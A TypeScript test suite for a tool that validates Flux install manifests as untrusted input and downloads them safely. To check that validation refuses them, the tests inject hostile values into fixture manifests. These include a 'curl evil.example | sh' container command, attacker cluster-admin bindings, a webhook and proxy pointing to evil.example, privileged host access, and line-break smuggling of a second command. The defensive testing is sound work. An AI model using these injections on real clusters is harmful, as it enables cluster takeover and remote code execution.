// The install manifest is untrusted input: the release rules (components/flux/release/),
// the download and file limits, and what errors may show (components/flux/manifests.ts).
import * as assert from "node:assert/strict";
import { createHash } from "node:crypto";
import * as fs from "node:fs";
import * as http from "node:http";
import { AddressInfo } from "node:net";
import * as os from "node:os";
import * as path from "node:path";
import { parseAllDocuments } from "yaml";
import { loadFluxManifests, parseManifests, ReadOptions, releaseManifestUrl } from "../components/flux/manifests";
import { KubeObject } from "../components/shared";
import { releaseProblems } from "../components/flux/release";
import { FluxRenderInput, renderFlux } from "../components/flux/render";
import { toYamlDocuments } from "../components/flux/repo-files";
import { FIXTURE } from "./harness";

const FIXTURE_TEXT = fs.readFileSync(FIXTURE, "utf8");
const RELEASE_294 = path.join(__dirname, "fixtures", "flux-install-v2.9.4.yaml");
const FIX = "use the unmodified install.yaml of a Flux release";
const fast: ReadOptions = { retryDelaysMs: [0, 0, 0] };

function objects(text = FIXTURE_TEXT): KubeObject[] {
  return parseAllDocuments(text).map((d) => d.toJS() as KubeObject | null).filter((o): o is KubeObject => o !== null);
}

/** The fixture with `change` applied to its objects, as YAML. */
function tampered(change: (objects: KubeObject[]) => void): string {
  const all = objects();
  change(all);
  return toYamlDocuments(all);
}

function find(all: KubeObject[], kind: string, name: string): KubeObject {
  const o = all.find((x) => x.kind === kind && x.metadata.name === name);
  assert.ok(o, `no ${kind} ${name}`);
  return o;
}

type PodSpec = Record<string, unknown> & { containers: Record<string, unknown>[] };
type PodTemplate = { metadata: { labels: Record<string, string>; annotations: Record<string, string> }; spec: PodSpec };

/** The pod template of controller `name`'s Deployment. */
function templateOf(all: KubeObject[], name: string): PodTemplate {
  return (find(all, "Deployment", name).spec as { template: PodTemplate }).template;
}

/** The pod spec of controller `name`'s Deployment. */
function podOf(all: KubeObject[], name: string): PodSpec {
  return templateOf(all, name).spec;
}

function renderInput(manifests: string, version = "v2.7.5"): FluxRenderInput {
  return {
    version,
    manifests,
    manifestsSource: "install.yaml",
    lockdown: true,
    defaultServiceAccount: "default",
    sync: { url: "ssh://git@github.com/acme/fleet", branch: "main", path: "clusters/dev", secretName: "flux-system" },
  };
}

function render(manifests: string, version = "v2.7.5") {
  return renderFlux(renderInput(manifests, version));
}

function assertRefused(manifests: string, message: string, version = "v2.7.5"): void {
  assert.throws(() => render(manifests, version), {
    name: "ManifestError",
    message,
  });
}

interface Served {
  readonly base: string;
  readonly requests: string[];
  close(): Promise<void>;
}

/** A loopback HTTP server for one test; records every request path. */
async function serve(handler: (req: http.IncomingMessage, res: http.ServerResponse, n: number) => void): Promise<Served> {
  const requests: string[] = [];
  const server = http.createServer((req, res) => {
    requests.push(req.url ?? "");
    handler(req, res, requests.length);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    base,
    requests,
    close: () => new Promise<void>((resolve) => {
      server.closeAllConnections();
      server.close(() => resolve());
    }),
  };
}

function sha256(text: string): string {
  return createHash("sha256").update(text).digest("hex");
}

describe("release rules", () => {
  it("accept the stand-ins of v2.7.5 (labelled) and v2.9.4 (unlabelled, source-watcher deployed)", () => {
    assert.deepEqual(releaseProblems(objects(), "v2.7.5"), []);
    const release = objects(fs.readFileSync(RELEASE_294, "utf8"));
    assert.ok(release.some((o) => o.kind === "Deployment" && o.metadata.name === "source-watcher"));
    assert.deepEqual(releaseProblems(release, "v2.9.4"), []);
    assert.equal(render(fs.readFileSync(RELEASE_294, "utf8"), "v2.9.4").objects.filter((o) => o.kind === "Deployment").length, 4);
  });

  it("accept the names `flux install --export` gives the RBAC bundle: cluster-scoped RBAC and the ResourceQuota", () => {
    const exported = tampered((all) => {
      for (const o of all.filter((x) => ["ClusterRole", "ClusterRoleBinding", "ResourceQuota"].includes(x.kind))) o.metadata.name += "-flux-system";
      (find(all, "ClusterRoleBinding", "crd-controller-flux-system").roleRef as { name: string }).name = "crd-controller-flux-system";
    });
    assert.doesNotThrow(() => render(exported));
  });

  it("refuse a binding that adds a subject outside Flux's accounts", () => {
    const text = tampered((all) => {
      (find(all, "ClusterRoleBinding", "crd-controller").subjects as unknown[]).push({ kind: "ServiceAccount", name: "attacker", namespace: "default" });
    });
    assertRefused(text, `install.yaml: ClusterRoleBinding "crd-controller" binds ServiceAccount "default/attacker", which is not one of Flux's accounts; ${FIX}`);
  });

  it("refuse an extra ClusterRoleBinding, listing every problem at once", () => {
    const text = tampered((all) => all.push({
      apiVersion: "rbac.authorization.k8s.io/v1",
      kind: "ClusterRoleBinding",
      metadata: { name: "attacker-admin" },
      roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "cluster-admin" },
      subjects: [{ kind: "User", name: "mallory" }, { kind: "ServiceAccount", name: "source-controller", namespace: "flux-system" }],
    }));
    assertRefused(text, `install.yaml: 3 problems; ${FIX}:\n` +
      `  - ClusterRoleBinding "attacker-admin" is not one of Flux's ClusterRoleBindings (cluster-reconciler, crd-controller)\n` +
      `  - ClusterRoleBinding "attacker-admin" binds User "mallory", which is not one of Flux's accounts\n` +
      `  - ClusterRoleBinding "attacker-admin" makes ServiceAccount "flux-system/source-controller" cluster-admin; ` +
      "a release makes only kustomize-controller and helm-controller cluster-admin");
  });

  it("refuse a binding to a ClusterRole the manifests do not define", () => {
    const text = tampered((all) => { (find(all, "ClusterRoleBinding", "crd-controller").roleRef as { name: string }).name = "admin"; });
    assertRefused(text, `install.yaml: ClusterRoleBinding "crd-controller" grants ClusterRole "admin", which is neither in the manifests nor cluster-admin; ${FIX}`);
  });

  it("refuse an object in another namespace", () => {
    const text = tampered((all) => { find(all, "Deployment", "helm-controller").metadata.namespace = "kube-system"; });
    assertRefused(text, `install.yaml: Deployment "kube-system/helm-controller" is not in the flux-system namespace; ${FIX}`);
  });

  it("refuse a Secret and an unknown kind, even in flux-system", () => {
    const text = tampered((all) => all.push(
      { apiVersion: "v1", kind: "Secret", metadata: { name: "token", namespace: "flux-system" }, stringData: { token: "x" } },
      { apiVersion: "example.com/v1", kind: "Widget", metadata: { name: "w" } },
    ));
    assertRefused(text, `install.yaml: 2 problems; ${FIX}:\n` +
      `  - Secret "flux-system/token" (apiVersion "v1") is not among the objects a Flux release installs\n` +
      `  - Widget "w" (apiVersion "example.com/v1") is not among the objects a Flux release installs`);
  });

  it("list at most 20 problems", () => {
    const text = tampered((all) => {
      for (let i = 0; i < 25; i++) all.push({ apiVersion: "v1", kind: "ConfigMap", metadata: { name: `c${i}`, namespace: "flux-system" } });
    });
    assert.throws(() => render(text), (err: Error) => {
      const lines = err.message.split("\n");
      assert.equal(lines[0], `install.yaml: 25 problems; ${FIX}:`);
      assert.equal(lines.length, 22);
      assert.equal(lines[21], "  - and 5 more");
      return true;
    });
  });

  it("refuse a CRD of another API group", () => {
    const text = tampered((all) => {
      const crd = structuredClone(find(all, "CustomResourceDefinition", "gitrepositories.source.toolkit.fluxcd.io"));
      crd.metadata.name = "tenants.capsule.clastix.io";
      (crd.spec as { group: string }).group = "capsule.clastix.io";
      all.push(crd);
    });
    assertRefused(text, `install.yaml: CustomResourceDefinition "tenants.capsule.clastix.io" defines API group "capsule.clastix.io", ` +
      `which is not Flux's (*.toolkit.fluxcd.io, *.extensions.fluxcd.io); ${FIX}`);
  });

  it("refuse an aggregated flux-edit widened to every group", () => {
    const text = tampered((all) => { (find(all, "ClusterRole", "flux-edit").rules as unknown[]).push({ apiGroups: ["*"], resources: ["*"], verbs: ["*"] }); });
    assertRefused(text, `install.yaml: ClusterRole "flux-edit" is aggregated into other roles (label "rbac.authorization.k8s.io/aggregate-to-admin"), ` +
      `such as the admin, edit and view roles tenants hold, so it may grant only Flux's API groups, but it grants apiGroups "*" in rule 2; ${FIX}`);
  });

  it("refuse crd-controller's wide rules once it carries a label an aggregation could select", () => {
    const text = tampered((all) => { find(all, "ClusterRole", "crd-controller").metadata.labels!["rbac.authorization.k8s.io/aggregate-to-view"] = "true"; });
    assertRefused(text, `install.yaml: ClusterRole "crd-controller" is aggregated into other roles (label "rbac.authorization.k8s.io/aggregate-to-view"), ` +
      `such as the admin, edit and view roles tenants hold, so it may grant only Flux's API groups, but it grants apiGroups "" in rule 7; ${FIX}`);
  });

  it("refuse a controller image from another registry, before flux.registry rewrites images", () => {
    const text = tampered((all) => {
      const pod = (find(all, "Deployment", "source-controller").spec as { template: { spec: { containers: { image: string }[] } } }).template.spec;
      pod.containers[0]!.image = "evil.example/fluxcd/source-controller:v1.7.4";
    });
    assertRefused(text, `install.yaml: Deployment "flux-system/source-controller" runs image "evil.example/fluxcd/source-controller:v1.7.4" in container "manager"; ` +
      `a release runs ghcr.io/fluxcd/source-controller:<tag> (flux.registry rewrites it for a mirror); ${FIX}`);
  });

  it("refuse a controller running as another account, its own command, or with host access", () => {
    const text = tampered((all) => {
      const pod = (find(all, "Deployment", "notification-controller").spec as { template: { spec: Record<string, unknown> } }).template.spec;
      pod.serviceAccountName = "kustomize-controller";
      pod.hostNetwork = true;
      pod.volumes = [{ name: "root", hostPath: { path: "/" } }];
      (pod.containers as Record<string, unknown>[])[0]!.command = ["sh", "-c", "curl evil.example | sh"];
    });
    assertRefused(text, `install.yaml: 3 problems; ${FIX}:\n` +
      `  - Deployment "flux-system/notification-controller" runs as ServiceAccount "kustomize-controller"; a release runs each controller as its own account, "notification-controller"\n` +
      `  - Deployment "flux-system/notification-controller" replaces the entrypoint of container "manager"; a release runs each image's own\n` +
      `  - Deployment "flux-system/notification-controller" asks for host access (hostNetwork, hostPath volume "root"), which no Flux controller has`);
  });

  it("refuse a conversion webhook, an exposed Service and an object listed twice", () => {
    const text = tampered((all) => {
      const crd = find(all, "CustomResourceDefinition", "kustomizations.kustomize.toolkit.fluxcd.io");
      (crd.spec as Record<string, unknown>).conversion = { strategy: "Webhook", webhook: { clientConfig: { url: "https://evil.example/convert" } } };
      (find(all, "Service", "source-controller").spec as Record<string, unknown>).type = "LoadBalancer";
      all.push(structuredClone(find(all, "ClusterRole", "flux-view")));
    });
    assertRefused(text, `install.yaml: 3 problems; ${FIX}:\n` +
      `  - ClusterRole "flux-view" appears twice\n` +
      `  - CustomResourceDefinition "kustomizations.kustomize.toolkit.fluxcd.io" converts its objects with strategy "Webhook"; Flux's CRDs use none\n` +
      `  - Service "flux-system/source-controller" is of type "LoadBalancer"; Flux's Services are ClusterIP`);
  });

  it("accept `flux install --export`'s spellings: a Linux node selector, =true, the runtime namespace in --events-addr, another log level", () => {
    const exported = tampered((all) => {
      for (const d of all.filter((o) => o.kind === "Deployment")) {
        const pod = podOf(all, d.metadata.name);
        pod.nodeSelector = { "kubernetes.io/os": "linux" };
        pod.containers[0]!.args = (pod.containers[0]!.args as string[]).map((a) => a
          .replace("notification-controller.flux-system.", "notification-controller.$(RUNTIME_NAMESPACE).")
          .replace(/^--watch-all-namespaces$/, "--watch-all-namespaces=true")
          .replace("--log-level=info", "--log-level=debug"));
      }
    });
    assert.doesNotThrow(() => render(exported));
  });

  it("accept the ExternalArtifact gate `flux install --components-extra=source-watcher` gives the two reconcilers, and only that value, only there", () => {
    const gate = "--feature-gates=ExternalArtifact=true";
    const withGate = (names: string[], arg = gate) => tampered((all) => {
      for (const name of names) (podOf(all, name).containers[0]!.args as string[]).push(arg);
    });
    assert.doesNotThrow(() => render(withGate(["kustomize-controller", "helm-controller"])));
    assert.throws(() => render(withGate(["source-controller"])), /Deployment "flux-system\/source-controller" passes "--feature-gates" to container "manager", which no Flux release passes/);
    assert.throws(() => render(withGate(["kustomize-controller"], "--feature-gates=ExternalArtifact=true,DisableStatusPollerCache=false")),
      /Deployment "flux-system\/kustomize-controller" passes "--feature-gates" to container "manager" with a value no Flux release passes/);
  });

  it("accept v2.6's Deployments (GOMAXPROCS, no labels on the pod but app) and images pinned by digest", () => {
    const v26 = tampered((all) => {
      for (const d of all.filter((o) => o.kind === "Deployment")) {
        const template = templateOf(all, d.metadata.name);
        template.metadata.labels = { app: d.metadata.name };
        const env = template.spec.containers[0]!.env as unknown[];
        env.splice(env.length - 1, 0, { name: "GOMAXPROCS", valueFrom: { resourceFieldRef: { containerName: "manager", resource: "limits.cpu" } } });
      }
      podOf(all, "source-controller").containers[0]!.image = `ghcr.io/fluxcd/source-controller@sha256:${"a".repeat(64)}`;
      podOf(all, "helm-controller").containers[0]!.image = `ghcr.io/fluxcd/helm-controller:v1.4.5@sha256:${"b".repeat(64)}`;
    });
    assert.doesNotThrow(() => render(v26));
  });

  it("refuse a \"<<\" key, which the committed YAML carries bare and Flux reads as a merge key", () => {
    const text = tampered((all) => { podOf(all, "kustomize-controller").containers[0]!["<<"] = { command: ["sh", "-c", "curl evil.example | sh"] }; });
    assert.match(text, /^ +<<:$/m, "the yaml package writes it as a merge key");
    assertRefused(text, `install.yaml: Deployment "flux-system/kustomize-controller" has a "<<" (merge) key in spec.template.spec.containers[0], ` +
      `which Flux would not read back from Git as written; ${FIX}`);
  });

  it("refuse line breaks YAML readers disagree on (U+0085, U+2028, U+2029) and control characters, naming where, never showing them", () => {
    const smuggled = "flux-system\u2028        command: [sh, -c, id]";
    const text = tampered((all) => {
      const c = podOf(all, "kustomize-controller").containers[0]!;
      (c.env as Record<string, unknown>[])[0] = { name: "RUNTIME_NAMESPACE", value: smuggled };
      (c.args as string[]).push("--log-level=info\u2029--no-remote-bases=false");
      find(all, "Namespace", "flux-system").metadata.labels!["team\u0085command"] = "x";
      ((find(all, "CustomResourceDefinition", "kustomizations.kustomize.toolkit.fluxcd.io").spec as { names: Record<string, unknown> }).names).kind = "Kustomization\u001b[2J";
    });
    assert.throws(() => render(text), (err: Error) => {
      assert.equal(err.message, `install.yaml: 6 problems; ${FIX}:\n` +
        "  - Namespace \"flux-system\" has a line break or control character in a key of metadata.labels, which Flux would not read back from Git as written\n" +
        "  - CustomResourceDefinition \"kustomizations.kustomize.toolkit.fluxcd.io\" has a line break or control character in spec.names.kind, " +
        "which Flux would not read back from Git as written\n" +
        "  - Deployment \"flux-system/kustomize-controller\" has a line break or control character in spec.template.spec.containers[0].args[5], " +
        "which Flux would not read back from Git as written\n" +
        "  - Deployment \"flux-system/kustomize-controller\" has a line break or control character in spec.template.spec.containers[0].env[0].value, " +
        "which Flux would not read back from Git as written\n" +
        "  - Deployment \"flux-system/kustomize-controller\" passes \"--log-level\" to container \"manager\" with a value no Flux release passes\n" +
        "  - Deployment \"flux-system/kustomize-controller\" sets environment variable \"RUNTIME_NAMESPACE\" in container \"manager\" to another value than a release's");
      for (const hidden of ["\u0085", "\u2028", "\u2029", "\u001b", "command", "no-remote-bases"]) assert.ok(!err.message.includes(hidden), hidden);
      return true;
    });
  });

  it("refuse pod and container fields no release sets: exec probes and hooks, init containers, a second container, a weaker securityContext", () => {
    const text = tampered((all) => {
      const pod = podOf(all, "kustomize-controller");
      const c = pod.containers[0]!;
      (c.livenessProbe as Record<string, unknown>).exec = { command: ["sh", "-c", "id"] };
      (c.readinessProbe as { httpGet: Record<string, unknown> }).httpGet.host = "169.254.169.254";
      c.lifecycle = { postStart: { exec: { command: ["sh", "-c", "id"] } } };
      c.securityContext = { ...(c.securityContext as object), allowPrivilegeEscalation: true, capabilities: { drop: ["ALL"], add: ["SYS_ADMIN"] }, runAsUser: 0, privileged: true };
      (c.ports as Record<string, unknown>[])[0]!.hostPort = 8080;
      pod.initContainers = [{ name: "init", image: "busybox", command: ["sh"] }];
      pod.containers.push({ name: "sidecar", image: "ghcr.io/fluxcd/kustomize-controller:v1.7.3", securityContext: c.securityContext });
      pod.securityContext = { fsGroup: 1337, runAsUser: 0 };
      (pod.volumes as unknown[]).push({ name: "token", secret: { secretName: "x" } }, { name: "scratch", emptyDir: { medium: "Memory" } });
      pod.tolerations = [{ operator: "Exists" }];
    });
    const d = `Deployment "flux-system/kustomize-controller"`;
    const weaker = "(allowPrivilegeEscalation, capabilities, runAsUser); a release runs every controller with no privilege escalation, " +
      "all capabilities dropped, a read-only root filesystem, a non-root user, the RuntimeDefault seccomp profile";
    assertRefused(text, `install.yaml: 12 problems; ${FIX}:\n` +
      `  - ${d} sets spec.template.spec.containers[0].readinessProbe.httpGet.host, which no Flux release sets\n` +
      `  - ${d} sets spec.template.spec.containers[0].livenessProbe.exec, which no Flux release sets\n` +
      `  - ${d} sets spec.template.spec.containers[0].lifecycle, which no Flux release sets\n` +
      `  - ${d} sets spec.template.spec.volumes[1].secret, which no Flux release sets\n` +
      `  - ${d} sets spec.template.spec.initContainers, which no Flux release sets\n` +
      `  - ${d} sets spec.template.spec.tolerations, which no Flux release sets\n` +
      `  - ${d} runs containers "manager", "sidecar"; a release runs one, "manager"\n` +
      `  - ${d} changes the securityContext of container "manager" ${weaker}\n` +
      `  - ${d} changes the securityContext of container "sidecar" ${weaker}\n` +
      `  - ${d} asks for host access (privileged container "manager", privileged container "sidecar", hostPort 8080), which no Flux controller has\n` +
      `  - ${d} has volume "scratch"; a release's volumes are empty emptyDirs named data, tmp, temp\n` +
      `  - ${d} sets spec.template.spec.securityContext to {"fsGroup":1337,"runAsUser":0}; a release has {"fsGroup":1337} or none`);
  });

  it("refuse flags and environment a release does not pass: the lockdown's own flags, other flags and values, \"--\", positional arguments", () => {
    const text = tampered((all) => {
      const kc = podOf(all, "kustomize-controller").containers[0]!;
      (kc.args as string[]).push("--no-remote-bases=false", "--insecure-kubeconfig-exec=true", "--feature-gates=AnyGate=true", "--log-level=trace", "--", "positional");
      (kc.env as unknown[]).push({ name: "HTTPS_PROXY", value: "http://evil.example:3128" });
      const sc = podOf(all, "source-controller").containers[0]!;
      (sc.args as string[])[6] = "--storage-adv-addr=evil.example.com";
      sc.image = "ghcr.io/fluxcd/source-controller:latest";
      (sc.env as Record<string, unknown>[]).find((e) => e.name === "TUF_ROOT")!.value = "/data/tuf";
    });
    const sc = `Deployment "flux-system/source-controller"`;
    const kc = `Deployment "flux-system/kustomize-controller"`;
    assertRefused(text, `install.yaml: 10 problems; ${FIX}:\n` +
      `  - ${sc} runs image "ghcr.io/fluxcd/source-controller:latest" in container "manager"; a release runs ghcr.io/fluxcd/source-controller:<tag> ` +
      "(flux.registry rewrites it for a mirror)\n" +
      `  - ${sc} passes "--storage-adv-addr" to container "manager" with a value no Flux release passes\n` +
      `  - ${sc} sets environment variable "TUF_ROOT" in container "manager" to another value than a release's\n` +
      `  - ${kc} passes the lockdown flag "--no-remote-bases" to container "manager"; the package adds the lockdown flags itself\n` +
      `  - ${kc} passes "--insecure-kubeconfig-exec" to container "manager", which no Flux release passes\n` +
      `  - ${kc} passes "--feature-gates" to container "manager" with a value no Flux release passes\n` +
      `  - ${kc} passes "--log-level" to container "manager" with a value no Flux release passes\n` +
      `  - ${kc} ends the flags of container "manager" with "--" (argument 10); a release passes flags only\n` +
      `  - ${kc} passes argument 11 to container "manager", which is not a flag; a release passes flags only\n` +
      `  - ${kc} sets environment variable "HTTPS_PROXY" in container "manager", which no Flux release sets`);
  });

  it("refuse ClusterRoles granting more than the release's, crd-controller included, and flux-edit aggregated into view", () => {
    const text = tampered((all) => {
      const crd = find(all, "ClusterRole", "crd-controller").rules as Record<string, unknown>[];
      crd.push({ apiGroups: ["*"], resources: ["*"], verbs: ["*"] }, { nonResourceURLs: ["*"], verbs: ["*"] });
      crd[6]!.verbs = ["get", "list", "watch", "create"];
      (find(all, "ClusterRole", "flux-view").rules as Record<string, unknown>[])[0]!.verbs = ["*"];
      const edit = find(all, "ClusterRole", "flux-edit");
      (edit.rules as unknown[]).push({ apiGroups: ["source.toolkit.fluxcd.io"], resources: ["gitrepositories"], resourceNames: ["x"], verbs: ["get"] });
      edit.metadata.labels!["rbac.authorization.k8s.io/aggregate-to-view"] = "true";
    });
    assertRefused(text, `install.yaml: 6 problems; ${FIX}:\n` +
      `  - ClusterRole "crd-controller" grants apiGroups [""], resources ["namespaces","secrets","configmaps","serviceaccounts"], verbs ["get","list","watch","create"] ` +
      "in rule 7, beyond what a release's crd-controller grants\n" +
      `  - ClusterRole "crd-controller" grants apiGroups ["*"], resources ["*"], verbs ["*"] in rule 14, beyond what a release's crd-controller grants\n` +
      `  - ClusterRole "crd-controller" grants nonResourceURLs ["*"], verbs ["*"] in rule 15, beyond what a release's crd-controller grants\n` +
      `  - ClusterRole "flux-edit" carries label "rbac.authorization.k8s.io/aggregate-to-view", which no Flux release puts there\n` +
      `  - ClusterRole "flux-edit" grants apiGroups ["source.toolkit.fluxcd.io"], resources ["gitrepositories"], resourceNames ["x"], verbs ["get"] in rule 2, ` +
      "beyond what a release's flux-edit grants\n" +
      `  - ClusterRole "flux-view" grants apiGroups ["notification.toolkit.fluxcd.io","source.toolkit.fluxcd.io","source.extensio..., ` +
      `resources ["*"], verbs ["*"] in rule 1, beyond what a release's flux-view grants`);
  });

  it("refuse labels, annotations, policies, quotas, accounts and Services other than the release's", () => {
    const text = tampered((all) => {
      const labels = find(all, "Namespace", "flux-system").metadata.labels!;
      Object.assign(labels, { "capsule.clastix.io/tenant": "x", "pod-security.kubernetes.io/enforce": "privileged", "pod-security.kubernetes.io/warn": "privileged" });
      const sa = find(all, "ServiceAccount", "source-controller");
      sa.metadata.annotations = { "eks.amazonaws.com/role-arn": "arn:aws:iam::1:role/admin" };
      sa.imagePullSecrets = [{ name: "x" }];
      Object.assign(find(all, "Service", "notification-controller").spec as object, { clusterIP: "10.0.0.10", selector: { app: "kustomize-controller" } });
      (find(all, "NetworkPolicy", "allow-scraping").spec as Record<string, unknown>).ingress = [{ from: [{ namespaceSelector: {} }] }];
      all.push({ apiVersion: "networking.k8s.io/v1", kind: "NetworkPolicy", metadata: { name: "allow-all", namespace: "flux-system" }, spec: { podSelector: {}, ingress: [{}] } });
      ((find(all, "ResourceQuota", "critical-pods").spec as { hard: Record<string, unknown> }).hard).pods = "1";
      const pod = templateOf(all, "helm-controller").metadata;
      pod.annotations["container.apparmor.security.beta.kubernetes.io/manager"] = "unconfined";
      pod.labels.app = "notification-controller";
    });
    assertRefused(text, `install.yaml: 12 problems; ${FIX}:\n` +
      `  - Namespace "flux-system" carries label "pod-security.kubernetes.io/warn" "privileged"; a release gives it "restricted"\n` +
      `  - Namespace "flux-system" carries label "capsule.clastix.io/tenant", which no Flux release puts there\n` +
      `  - Namespace "flux-system" carries label "pod-security.kubernetes.io/enforce", which no Flux release puts there\n` +
      `  - ResourceQuota "flux-system/critical-pods" has another spec than the one a release ships\n` +
      `  - ServiceAccount "flux-system/source-controller" sets imagePullSecrets, which no Flux release sets\n` +
      `  - ServiceAccount "flux-system/source-controller" carries annotation "eks.amazonaws.com/role-arn", which no Flux release puts there\n` +
      `  - Service "flux-system/notification-controller" sets spec.clusterIP, which no Flux release sets\n` +
      `  - Service "flux-system/notification-controller" sets spec.selector to {"app":"kustomize-controller"}; a release has {"app":"notification-controller"}\n` +
      `  - Deployment "flux-system/helm-controller" carries pod label "app" "notification-controller"; a release gives it "helm-controller"\n` +
      `  - Deployment "flux-system/helm-controller" carries pod annotation "container.apparmor.security.beta.kubernetes.io/manager", which no Flux release puts there\n` +
      `  - NetworkPolicy "flux-system/allow-scraping" has another spec than the one a release ships\n` +
      `  - NetworkPolicy "flux-system/allow-all" is not one of Flux's NetworkPolicies (allow-egress, allow-scraping, allow-webhooks)`);
  });

  it("refuse manifests labelled with another release than flux.version", () => {
    assertRefused(FIXTURE_TEXT, `install.yaml: Namespace "flux-system" and 38 more objects are labelled app.kubernetes.io/version "v2.7.5", ` +
      `but flux.version is "v2.8.0"; set flux.version to the manifests' release, or use the manifests of v2.8.0`, "v2.8.0");
  });
});

describe("manifest errors show no content", () => {
  const secret = "hunter2-c2VjcmV0LXRva2Vu";

  it("a YAML error gives the document, line, column and code only", () => {
    const text = `apiVersion: v1\nkind: Namespace\nmetadata: {name: flux-system}\n---\npassword: "${secret}\nkey: [unclosed\n`;
    assert.throws(() => parseManifests(text, "install.yaml"), (err: Error) => {
      assert.equal(err.message, "install.yaml: document 2 is not valid YAML: MISSING_CHAR at line 7, column 1");
      assert.ok(!err.message.includes(secret) && !err.message.includes("hunter2"));
      return true;
    });
  });

  it("an unresolved alias does not echo its name", () => {
    assert.throws(() => parseManifests(`apiVersion: v1\nkind: Secret\nmetadata: {name: x}\ndata: *${secret}\n`, "install.yaml"), {
      message: "install.yaml: document 1 cannot be read as data (an alias that is unresolved or expands too far)",
    });
  });

  it("a Secret in the manifests is named, its data never shown", () => {
    const text = tampered((all) => all.push({ apiVersion: "v1", kind: "Secret", metadata: { name: "db", namespace: "flux-system" }, stringData: { password: secret } }));
    assert.throws(() => render(text), (err: Error) => !err.message.includes(secret) && err.message.includes('Secret "flux-system/db"'));
  });
});

describe("loading manifests", () => {
  let dir: string;
  before(() => { dir = fs.mkdtempSync(path.join(os.tmpdir(), "flux-manifests-")); });
  after(() => fs.rmSync(dir, { recursive: true, force: true }));

  it("retries a 500 and succeeds on the next attempt", async () => {
    const s = await serve((_req, res, n) => {
      res.statusCode = n === 1 ? 500 : 200;
      res.end(n === 1 ? "oops" : FIXTURE_TEXT);
    });
    try {
      const loaded = await loadFluxManifests({ version: "v2.7.5", manifests: `${s.base}/install.yaml`, ...fast });
      assert.equal(loaded.text, FIXTURE_TEXT);
      assert.equal(loaded.sha256, sha256(FIXTURE_TEXT));
      assert.equal(s.requests.length, 2);
    } finally {
      await s.close();
    }
  });

  it("gives up after four attempts, naming the URL without its query string", async () => {
    const s = await serve((_req, res) => { res.statusCode = 503; res.end(); });
    try {
      await assert.rejects(loadFluxManifests({ version: "v2.7.5", manifests: `${s.base}/install.yaml?token=ghp_secret#x`, ...fast }), {
        name: "ManifestError",
        message: `cannot download Flux manifests from ${s.base}/install.yaml: HTTP 503 (4 attempts); ` +
          "set flux.manifests to a local copy of install.yaml for clusters without internet access",
      });
      assert.equal(s.requests.length, 4);
    } finally {
      await s.close();
    }
  });

  it("refuses user info in a URL, never showing it", async () => {
    await assert.rejects(loadFluxManifests({ version: "v2.7.5", manifests: "https://bot:ghp_secret@mirror.example/install.yaml" }), {
      message: "cannot download Flux manifests from https://mirror.example/install.yaml: user info in a URL is not supported; " +
        "download the file and set flux.manifests to it",
    });
  });

  it("does not retry a 404", async () => {
    const s = await serve((_req, res) => { res.statusCode = 404; res.end(); });
    try {
      await assert.rejects(loadFluxManifests({ version: "v2.7.5", manifests: `${s.base}/x.yaml`, ...fast }), {
        message: `cannot download Flux manifests from ${s.base}/x.yaml: HTTP 404; check flux.version names a published release, or set flux.manifests to a local file`,
      });
      assert.equal(s.requests.length, 1);
    } finally {
      await s.close();
    }
  });

  it("retries a connection that fails and one that times out", async () => {
    const closed = await serve(() => undefined);
    await closed.close();
    await assert.rejects(loadFluxManifests({ version: "v2.7.5", manifests: `${closed.base}/install.yaml`, retryDelaysMs: [0] }), {
      message: `cannot download Flux manifests from ${closed.base}/install.yaml: network error ECONNREFUSED (2 attempts); ` +
        "set flux.manifests to a local copy of install.yaml for clusters without internet access",
    });
    const silent = await serve(() => undefined);
    try {
      await assert.rejects(loadFluxManifests({ version: "v2.7.5", manifests: `${silent.base}/install.yaml`, retryDelaysMs: [0], timeoutMs: 100 }), {
        message: `cannot download Flux manifests from ${silent.base}/install.yaml: no complete answer within 100 ms (2 attempts); ` +
          "set flux.manifests to a local copy of install.yaml for clusters without internet access",
      });
      assert.equal(silent.requests.length, 2);
    } finally {
      await silent.close();
    }
  });

  it("refuses a body over the size cap, declared or streamed, without retrying", async () => {
    const s = await serve((req, res) => {
      if (req.url === "/declared") res.setHeader("content-length", "4096");
      res.write("a".repeat(2048));
      res.end("b".repeat(2048));
    });
    try {
      for (const p of ["/declared", "/streamed"]) {
        await assert.rejects(loadFluxManifests({ version: "v2.7.5", manifests: `${s.base}${p}`, maxBytes: 3000, ...fast }), {
          message: `cannot download Flux manifests from ${s.base}${p}: the response is larger than 3000 bytes; a Flux install.yaml is 1-3 MiB: check that the URL names one`,
        });
      }
      assert.deepEqual(s.requests, ["/declared", "/streamed"]);
    } finally {
      await s.close();
    }
  });

  it("refuses plain http to a host that is not loopback before any request", async () => {
    let calls = 0;
    const counting: typeof fetch = () => { calls++; return Promise.resolve(new Response("")); };
    await assert.rejects(loadFluxManifests({ version: "v2.7.5", manifests: "http://example.com/install.yaml", fetch: counting }), {
      message: "cannot download Flux manifests from http://example.com/install.yaml: plain http is allowed only to a loopback address " +
        "(127.0.0.0/8, ::1, localhost); use an https URL, or set flux.manifests to a local file",
    });
    assert.equal(calls, 0);
  });

  it("refuses a redirect from loopback http to another host's http, without contacting it", async () => {
    const s = await serve((_req, res) => { res.statusCode = 302; res.setHeader("location", "http://example.com/install.yaml?sig=abc"); res.end(); });
    const contacted: string[] = [];
    const recording: typeof fetch = (input, init) => { contacted.push(String(input)); return fetch(input, init); };
    try {
      await assert.rejects(loadFluxManifests({ version: "v2.7.5", manifests: `${s.base}/install.yaml`, fetch: recording, ...fast }), {
        message: `cannot download Flux manifests from ${s.base}/install.yaml: it redirects to http://example.com/install.yaml, and plain http is allowed ` +
          "only to a loopback address (127.0.0.0/8, ::1, localhost); give an https URL that stays on https, or a local file",
      });
      assert.deepEqual(contacted, [`${s.base}/install.yaml`]);
    } finally {
      await s.close();
    }
  });

  it("refuses a redirect from https to http, even to loopback, and follows https redirects", async () => {
    const contacted: string[] = [];
    const fake: typeof fetch = (input) => {
      const url = String(input);
      contacted.push(url);
      if (url === "https://mirror.example/old.yaml") return Promise.resolve(new Response(null, { status: 301, headers: { location: "/install.yaml" } }));
      if (url === "https://mirror.example/install.yaml") return Promise.resolve(new Response(FIXTURE_TEXT));
      return Promise.resolve(new Response(null, { status: 302, headers: { location: "http://127.0.0.1/install.yaml" } }));
    };
